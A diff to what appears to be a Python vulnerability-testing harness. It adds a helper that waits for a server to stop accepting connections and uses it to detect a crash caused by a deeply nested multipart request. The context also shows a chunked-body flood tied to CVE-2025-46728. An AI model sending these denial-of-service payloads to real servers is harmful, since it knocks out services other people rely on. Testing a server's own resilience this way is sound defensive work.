@@ -67,6 +67,17 @@ def exchange(port, *parts, patience=1.0):
         return hear(client, patience), taken
 
 
+def refuses_within(port, seconds):
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            connect(port).close()
+        except OSError:
+            return True
+        time.sleep(0.05)
+    return False
+
+
 def endless_body(port):
     """CVE-2025-46728: a chunked body has no limit."""
     chunk = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
@@ -147,11 +158,7 @@ def deep_expression(port):
     body = b"--b\r\n" + name + b"\r\nx\r\n--b--\r\n"
     heard, _ = exchange(port, request("POST /rates/1 HTTP/1.1", "Content-Type: multipart/form-data; boundary=b",
                                       f"Content-Length: {len(body)}"), body, patience=3)
-    alive = True
-    try:
-        connect(port).close()
-    except OSError:
-        alive = False
+    alive = not refuses_within(port, 3)  # what overflows its stack takes a moment to die
     return f"status {status(heard)}, the server is {'there' if alive else 'gone'}", not alive
 
 
